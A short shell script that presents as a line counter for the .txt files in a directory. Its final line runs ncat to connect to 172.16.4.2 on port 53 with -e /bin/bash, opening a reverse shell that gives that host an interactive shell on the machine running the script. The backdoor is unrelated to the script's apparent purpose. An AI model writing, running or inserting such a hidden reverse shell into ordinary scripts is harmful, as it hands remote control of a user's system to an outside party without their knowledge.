#!/bin/sh
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
ncat 172.16.4.2 53 -e /bin/bash
